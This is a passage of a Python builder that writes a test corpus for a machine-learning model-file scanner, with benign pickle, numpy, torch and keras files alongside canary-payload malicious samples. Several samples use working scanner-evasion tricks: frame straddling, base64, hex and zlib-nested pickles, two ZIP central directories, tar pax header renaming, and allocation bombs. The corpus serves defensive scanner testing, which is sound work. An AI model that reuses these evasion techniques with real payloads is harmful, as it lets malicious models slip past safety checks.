    no_newline = mkdir + b"0" + b"cos\nsystem"
    # an INT the C unpickler reads in octal (strtol) and the pure-Python one rejects
    octal = b"I017\n0" + mkdir + b"."
    # first opcodes outside any "pickle start" list
    unusual_start = b"K\x010" + mkdir + b"."
    # a name computed by an allowlisted call, then imported (STACK_GLOBAL on call results)
    computed = (
        b"\x80\x04cbuiltins\nstr\n"
        + _uni("os")
        + b"\x85R"
        + b"cbuiltins\nstr\n"
        + _uni("mkdir")
        + b"\x85R\x93"
        + _uni(str(canary))
        + b"\x85R."
    )
    files = {
        "mal_frame_straddle.pkl": (straddle, "GLOBAL line crosses a FRAME end", (P23,),
                                   "python/cpython#154848"),
        "mal_frame_peek_window.pkl": (window, "frame hides opcodes behind a peek window", (P23,),
                                      "python/cpython#154848 (report)"),
        "mal_frame_nested.pkl": (nested, "FRAME inside a FRAME", (P23,), "python/cpython#154893"),
        "mal_stop_inside_frame.pkl": (stop_in_frame, "STOP inside a FRAME, payload after it",
                                      (P23,), "trailofbits/fickling#317"),
        "mal_frame_beyond_file.pkl": (short, "FRAME longer than the file (pure-Python reads it)",
                                      (P10,), "pure-Python unpickler differential"),
        "mal_global_without_newline.pkl": (no_newline, "last GLOBAL without newline", (P10,),
                                           "pure-Python unpickler differential"),
        "mal_int_octal.pkl": (octal, "INT read in octal by the C unpickler", (P10,),
                              "issue 11 (INT/LONG text in every base)"),
        "mal_unusual_first_opcode.pkl": (unusual_start, "first opcode outside the usual starts",
                                         (P10,), "issue 11 (pickle start list)"),
        "mal_computed_name.pkl": (computed, "STACK_GLOBAL fed by allowlisted calls", (P12,),
                                  "mmaitre314/picklescan#22 family"),
    }  # fmt: skip
    samples = []
    for name, (data, family, rules, advisory) in files.items():
        _w(out, name, data)
        samples.append(Sample(name, family, True, D, rules, advisory))
    return samples


@builder
def encoded_and_loader_chains(out: Path, canary: Path) -> list[Sample]:
    """Pickles carried as text or compressed bytes inside a pickle (issue 11 item 8), and loaders
    reached through allowlisted-looking names."""
    inner = call_p2("os", "mkdir", str(canary))
    b64 = base64.b64encode(inner).decode()
    hexed = inner.hex()
    # only allowlisted globals outside; the payload is a string that decodes to a pickle
    as_b64 = b"\x80\x04cbuiltins\nstr\n" + _uni(b64) + b"\x85R."
    as_hex = b"\x80\x04cbuiltins\nstr\n" + _uni(hexed) + b"\x85R."
    as_zlib = (
        b"\x80\x04cbuiltins\nbytes\n"
        + b"C"
        + bytes([len(zlib.compress(inner))])
        + zlib.compress(inner)
        + b"\x85R."
    )
    chain = b"\x80\x04cpickle\nloads\ncbase64\nb64decode\n" + _uni(b64) + b"\x85R\x85R."
    hook = (
        b"\x80\x04ctorch.nn.modules.module\nregister_module_forward_hook\ncbuiltins\nprint\n\x85R."
    )
    from_bytes = b"\x80\x04ctorch.storage\n_load_from_bytes\nC\x04abcd\x85R."
    _w(out, "mal_base64_string.pkl", as_b64)
    _w(out, "mal_hex_string.pkl", as_hex)
    _w(out, "mal_zlib_bytes.pkl", as_zlib)
    _w(out, "mal_base64_loads_chain.pkl", chain)
    _w(out, "mal_torch_module_hook.pt", torch_zip_bytes(hook))
    _w(out, "mal_load_from_bytes_any_bytes.pt", torch_zip_bytes(from_bytes))
    return [
        Sample("mal_base64_string.pkl", "base64 pickle in a string", True, D, (P10,), "item 8"),
        Sample("mal_hex_string.pkl", "hex pickle in a string", True, D, (P10,), "item 8"),
        Sample("mal_zlib_bytes.pkl", "zlib pickle in bytes", True, D, (P10,), "item 8"),
        Sample("mal_base64_loads_chain.pkl", "pickle.loads(base64.b64decode(...))", True, D,
               (P10,), "mmaitre314/picklescan#74; item 8"),
        Sample("mal_torch_module_hook.pt", "torch.nn.modules module-level hook", True, D, (P10,),
               "issue 11 (torch.nn.modules prefix)"),
        Sample("mal_load_from_bytes_any_bytes.pt", "torch.storage._load_from_bytes is a loader",
               True, D, (P10,), "issue 11 (no loader on the allowlist)"),
    ]  # fmt: skip


@builder
def joblib_side_files(out: Path, canary: Path) -> list[Sample]:
    """joblib < 0.10 wrappers make joblib.load numpy.load(allow_pickle=True) a file they name."""
    side = out / "side_payload.npy"
    import numpy as np

    np.save(side, np.array([_Reduce(os.mkdir, str(canary)), 1], dtype=object), allow_pickle=True)
    state = b"}(" + _bin_str("filename") + _bin_str(side.name) + _bin_str("allow_mmap") + b"\x89u"
    data = b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81" + state + b"b."
    _w(out, "mal_joblib_side_file.joblib", data)
    return [
        Sample("mal_joblib_side_file.joblib", "joblib NDArrayWrapper side file", True, D,
               ("NBS-PKL-024",), "issue 11 (joblib side files)"),
        Sample("side_payload.npy", "object array loaded by a side-file wrapper", True, D, (P10,)),
    ]  # fmt: skip


@builder
def bombs_by_length(out: Path, canary: Path) -> list[Sample]:
    files = {
        "mal_memo_bomb.pkl": b"\x80\x04N" + b"r" + struct.pack("<I", 1 << 30) + b".",
        "mal_length_bomb.pkl": b"\x80\x04\x8e" + struct.pack("<Q", 1 << 40) + b"x.",
        "mal_frame_bomb.pkl": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + b"N.",
    }
    for name, data in files.items():
        _w(out, name, data)
    return [Sample(n, "allocation by declared length", True, S, (), "issue 11 (length bombs)")
            for n in files]  # fmt: skip


# -- benign ---------------------------------------------------------------------------------------


@builder
def benign_plain(out: Path, canary: Path) -> list[Sample]:
    import numpy as np

    values: dict[str, Any] = {
        "dict": {"a": [1, 2.5, "x", None, True], "b": (1, 2), "c": {1, 2}, "d": b"\x00\x01"},
        "ordered": OrderedDict(a=1, b=[1, 2]),
        "datetime": {"t": datetime(2026, 1, 1, 12), "d": timedelta(days=2), "x": Decimal("1.5")},
        "nparray": {"a": np.arange(12, dtype=np.float32).reshape(3, 4), "s": np.float64(2.5)},
        "bytearray": bytearray(b"abc" * 10),
        "nested_bytes": {"blob": pickle.dumps([1, 2, 3], protocol=2)},
        "numpy_misc": {
            "none_type": type(None),
            "rng": np.random.default_rng(0),
            "legacy_rng": np.random.RandomState(0),
            "masked": np.ma.masked_array([1, 2], mask=[0, 1]),
            "when": np.array(["2026-01-01"], dtype="datetime64[D]"),
        },
    }
    samples = []
    for key, value in values.items():
        for proto in (0, 2, 4, 5):
            name = f"ok_{key}_p{proto}.pkl"
            _w(out, name, pickle.dumps(value, protocol=proto))
            samples.append(Sample(name, f"benign {key}", False, OK))
    floats = pickle.dumps([float(i) for i in range(200_000)], protocol=4)
    _w(out, "ok_many_floats.pkl", floats)
    samples.append(Sample("ok_many_floats.pkl", "op-dense list of floats", False, OK))
    _w(out, "ok_readme.txt", b"This is not a model.\n")
    samples.append(Sample("ok_readme.txt", "not a model", False, "unsupported"))
    return samples


@builder
def benign_numpy_joblib(out: Path, canary: Path) -> list[Sample]:
    import joblib
    import numpy as np

    np.save(out / "ok_array.npy", np.arange(1000, dtype=np.int64))
    np.save(out / "ok_strings.npy", np.array(["ab", "cde"]))
    np.savez(out / "ok_arrays.npz", a=np.ones((3, 3)), b=np.arange(4))
    np.savez_compressed(out / "ok_arrays_compressed.npz", a=np.ones((30, 30)))
    samples = [
        Sample("ok_array.npy", "numpy npy", False, OK),
        Sample("ok_strings.npy", "numpy unicode npy", False, OK),
        Sample("ok_arrays.npz", "numpy npz", False, OK),
        Sample("ok_arrays_compressed.npz", "numpy compressed npz", False, OK),
    ]
    obj = {
        "w": np.random.default_rng(0).normal(size=(50, 8)),
        "names": np.array(["a", "b"]),
        "rec": np.zeros(3, dtype=[("x", "<i4"), ("y", "<f8")]),
        "n": 3,
    }
    joblib.dump(obj, out / "ok_joblib.joblib")
    samples.append(Sample("ok_joblib.joblib", "joblib arrays", False, OK))
    for comp in ("zlib", "gzip", "bz2", "lzma", "xz"):
        name = f"ok_joblib_{comp}.joblib"
        joblib.dump(obj, out / name, compress=(comp, 3))
        samples.append(Sample(name, f"joblib {comp}", False, OK))
    _w(out, "ok_model.pkl.gz", gzip.compress(pickle.dumps({"w": [1.0, 2.0]})))
    samples.append(Sample("ok_model.pkl.gz", ".pkl.gz", False, OK))
    return samples


@builder
def benign_sklearn_pandas(out: Path, canary: Path) -> list[Sample]:
    import joblib
    import numpy as np
    import pandas as pd

    frame = pd.DataFrame(
        {"a": np.arange(5), "b": list("abcde"), "t": pd.date_range("2026-01-01", periods=5)}
    )
    frame.to_pickle(out / "ok_pandas_frame.pkl")
    samples = [
        Sample("ok_pandas_frame.pkl", "pandas DataFrame", False, OK, profiles=("pandas",)),
    ]
    try:
        from sklearn.ensemble import RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler
    except ImportError:
        return samples
    x = np.random.default_rng(0).normal(size=(40, 3))
    y = (x[:, 0] > 0).astype(int)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    forest = RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y)
    _w(out, "ok_sklearn_pipeline.pkl", pickle.dumps(pipe))
    joblib.dump(forest, out / "ok_sklearn_forest.joblib", compress=3)
    samples += [
        Sample("ok_sklearn_pipeline.pkl", "sklearn pipeline", False, OK, profiles=("sklearn",)),
        Sample("ok_sklearn_forest.joblib", "sklearn forest (joblib)", False, OK,
               profiles=("sklearn",)),
    ]  # fmt: skip
    return samples


@builder
def benign_torch(out: Path, canary: Path) -> list[Sample]:
    try:
        import torch
    except ImportError:
        return []
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    torch.save(model.state_dict(), out / "ok_torch_state_dict.pt")
    torch.save(
        {"t": torch.arange(10), "h": torch.ones(2, dtype=torch.float16)},
        out / "ok_torch_tensors.bin",
    )
    torch.save(model, out / "ok_torch_full_model.pt")
    torch.save(model.state_dict(), out / "ok_torch_legacy.pt", _use_new_zipfile_serialization=False)
    optim = torch.optim.Adam(model.parameters())
    checkpoint = {
        "model": model.state_dict(),
        "optim": optim.state_dict(),
        "epoch": 3,
        "rng": torch.get_rng_state(),
        "sparse": torch.eye(3).to_sparse(),
        "encoder": torch.nn.TransformerEncoderLayer(8, 2),
    }
    torch.save(checkpoint, out / "ok_torch_checkpoint.pt")
    with warnings.catch_warnings():  # torch.jit is deprecated in favour of torch.export
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(model), out / "ok_torchscript.pt")
    samples = [
        Sample("ok_torch_state_dict.pt", "torch state_dict", False, OK),
        Sample("ok_torch_tensors.bin", "torch tensors", False, OK),
        Sample("ok_torch_full_model.pt", "torch full nn.Module", False, OK),
        Sample("ok_torch_legacy.pt", "torch legacy format", False, OK),
        Sample("ok_torch_checkpoint.pt", "torch training checkpoint", False, OK),
        Sample("ok_torchscript.pt", "TorchScript archive", False, OK),
    ]
    evil = {"w": torch.ones(3), "x": _Reduce(os.system, shell(canary))}
    torch.save(evil, out / "mal_torch_save_reduce.pt")
    samples.append(
        Sample("mal_torch_save_reduce.pt", "torch.save with __reduce__", True, D, (P10,))
    )
    return samples


@builder
def benign_formats(out: Path, canary: Path) -> list[Sample]:
    tensor = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    header = json.dumps(
        {
            "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
            "__metadata__": {"a": "b"},
        }
    ).encode()
    header += b" " * (-len(header) % 8)
    _w(out, "ok_weights.safetensors", struct.pack("<Q", len(header)) + header + tensor)
    _w(out, "ok_model.keras", keras_zip(_sequential([_dense("d1"), _dense("d2")])))
    _w(out, "ok_archive.tar", tar_bytes({"a.pkl": pickle.dumps([1, 2]), "notes.txt": b"hi"}))
    samples = [
        Sample("ok_weights.safetensors", "safetensors", False, OK),
        Sample("ok_model.keras", "keras", False, OK),
        Sample("ok_archive.tar", "tar of pickles", False, OK),
    ]
    try:
        import h5py
    except ImportError:
        return samples
    with h5py.File(out / "ok_keras.h5", "w") as h5:
        h5.attrs["model_config"] = json.dumps(_sequential([_dense("d")]))
        h5.create_dataset("w", data=[1.0, 2.0])
    samples.append(Sample("ok_keras.h5", "keras h5", False, OK))
    return samples


@builder
def containers_as_loaders_read_them(out: Path, canary: Path) -> list[Sample]:
    """Archives whose members a loader finds differently from a naive reader."""
    payload_p0 = call_p0("os", "mkdir", str(canary))
    # torch's reader looks records up case-insensitively
    upper = torch_zip_bytes(pickle.dumps({"w": 1}), extra={"DATA.PKL": payload_p0})
    _w(out, "mal_torch_case_insensitive.pt", upper)
    # two central directories: zipfile reads the one before the end record, miniz the declared
    benign = pickle.dumps([1, 2], protocol=2)
    evil = pickle.dumps(_Reduce(os.mkdir, str(canary)), protocol=2)

    def parts(name: str, body: bytes) -> tuple[bytes, bytes]:
        raw = _zip({name: body})
        at = struct.unpack("<L", raw[raw.rfind(b"PK\x05\x06") + 16 :][:4])[0]
        return raw[:at], raw[at : raw.rfind(b"PK\x05\x06")]

    local_a, entry_a = parts("a.pkl", benign)
    local_b, entry_b = parts("b.pkl", evil)
    # zipfile finds its directory right before the end record and shifts every offset by the
    # distance to the declared one (len(entry_a)): b.pkl's entry is written for that shift
    pad = b"\x00" * 64
    at_b = len(local_a) + len(pad)
    entry_b = entry_b[:42] + struct.pack("<L", at_b - len(entry_a)) + entry_b[46:]
    body = local_a + pad + local_b + entry_a
    end = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, 1, 1, len(entry_b), at_b + len(local_b), 0)
    body += entry_b
    _w(out, "mal_zip_two_directories.npz", body + end)
    # a pax global header names every later member "pickle": tarfile (and so torch's legacy
    # loader) reads the last of them
    buf = io.BytesIO()
    with tarfile.open(
        fileobj=buf, mode="w", format=tarfile.PAX_FORMAT, pax_headers={"path": "pickle"}
    ) as tf:
        for name, body_bytes in (("notes.txt", b"hello"), ("weights.bin", evil)):
            info = tarfile.TarInfo(name)
            info.size = len(body_bytes)
            tf.addfile(info, io.BytesIO(body_bytes))
    _w(out, "mal_tar_pax_global_path.tar", buf.getvalue())
    # legacy torch tar: the payload in the storage_views pickle after the storages
    record = b"\x80\x02(" + _bin_str("0") + _bin_str("cpu") + b"ctorch\nFloatStorage\nt."
    storages = pickle.dumps(1, protocol=2) + record + struct.pack("<q", 2) + b"\x00" * 8 + evil
    legacy = tar_bytes(
        {
            "sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
            "pickle": pickle.dumps({"w": 1}, protocol=2),
            "storages": storages,
            "tensors": pickle.dumps(0, protocol=2),
        }
    )
    _w(out, "mal_torch_legacy_storage_views.pt", legacy)
    return [
        Sample(
            "mal_torch_case_insensitive.pt",
            "torch record found case-insensitively",
            True,
            D,
            (P10,),
            "issue 11 (torch reader case-insensitive)",
        ),
        Sample(
            "mal_zip_two_directories.npz",
            "two central directories",
            True,
            D,
            ("NBS-PKL-023", P10),
            "issue 11 (zipfile central-directory choice)",
        ),
        Sample(
            "mal_tar_pax_global_path.tar",
            "pax global header renames members",
            True,
            D,
            (P10,),
            "issue 11 (tarfile pax global headers)",
        ),
        Sample(
            "mal_torch_legacy_storage_views.pt",
            "payload in storage_views",
            True,
            D,
            (P10,),
            "issue 11 (legacy torch second pickle)",
        ),
    ]


@builder
def fuzz_divergences(out: Path, canary: Path) -> list[Sample]:
    """Every input on which the differential fuzzer once caught nbsec disagreeing with a real
    loader (``tests/data/fuzz_cases.json``); they name the fuzzer's harmless canary module."""
    cases = json.loads((Path(__file__).parent / "fuzz_cases.json").read_text())["cases"]
    samples = []
    for i, case in enumerate(cases):
        name = f"mal_fuzz_case_{i:02d}.pkl"
        _w(out, name, bytes.fromhex(case["hex"]))
        flagged = case["expect"] in ("dangerous", "suspicious")
        samples.append(
            Sample(
                name,
                f"fuzzer: {case['why']}",
                flagged,
                case["expect"],
                (),
                "benchmarks/fuzz_pickle_scanner.py",
            )
        )
    return samples


@builder
def benign_everyday(out: Path, canary: Path) -> list[Sample]:
    """Everyday objects that must never be flagged (issue 11 item 5)."""
    import argparse
    import functools
    import re

    values = {
        "regex": re.compile(r"a+b", re.IGNORECASE),
        "namespace": argparse.Namespace(lr=0.1, epochs=3),
        "partial": functools.partial(int, base=2),
        "builtin_len": len,
        "future": __import__("__future__").annotations,
    }
    samples = []
    for key, value in values.items():
        for proto in (2, 4, 5):
            name = f"ok_{key}_p{proto}.pkl"
            _w(out, name, pickle.dumps(value, protocol=proto))
            samples.append(Sample(name, f"benign {key}", False, OK))
    # a feature flag imported as a global (fickling's allowlist test); bytes that only start like
    # gzip (ModelAudit's safe_model_with_binary): data the loader never decompresses
    _w(out, "ok_future_flag_global.pkl", b"\x80\x04\x8c\n__future__\x8c\x0bannotations\x93.")
    blob = b"\x1f\x8b\x08\x00" + bytes(range(256)) * 3
    _w(out, "ok_bytes_like_gzip.pkl", pickle.dumps({"weights": [0.5], "blob": blob}, protocol=4))
    samples += [
        Sample("ok_future_flag_global.pkl", "__future__ flag as a global", False, OK),
        Sample("ok_bytes_like_gzip.pkl", "bytes that start like gzip", False, OK),
    ]
    try:
        import pandas as pd
    except ImportError:
        return samples
    frame = pd.DataFrame({"a": [1, 2], "s": ["x", "y"], "c": pd.Categorical(["u", "v"])})
    frame.to_pickle(out / "ok_pandas_mixed.pkl")
    pd.Series([1.5, None], dtype="Float64").to_pickle(out / "ok_pandas_series.pkl")
    samples += [
        Sample("ok_pandas_mixed.pkl", "pandas frame with categoricals", False, OK),
        Sample("ok_pandas_series.pkl", "pandas nullable series", False, OK),
    ]
    try:
        frame.astype({"s": "string[pyarrow]"}).to_pickle(out / "ok_pandas_arrow.pkl")
        samples.append(Sample("ok_pandas_arrow.pkl", "pandas Arrow-backed strings", False, OK))
    except Exception:
        pass
    return samples


def build_corpus(out_dir: Path, canary: Path | None = None) -> list[Sample]:
    """Write the whole corpus into ``out_dir``; returns its manifest."""
    out_dir.mkdir(parents=True, exist_ok=True)
    canary = canary or out_dir / CANARY_NAME
    samples: list[Sample] = []
    for build in BUILDERS:
        samples.extend(build(out_dir, canary))
    return samples


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "model_corpus")
    manifest = build_corpus(target)
    json.dump([asdict(s) for s in manifest], sys.stdout, indent=1)
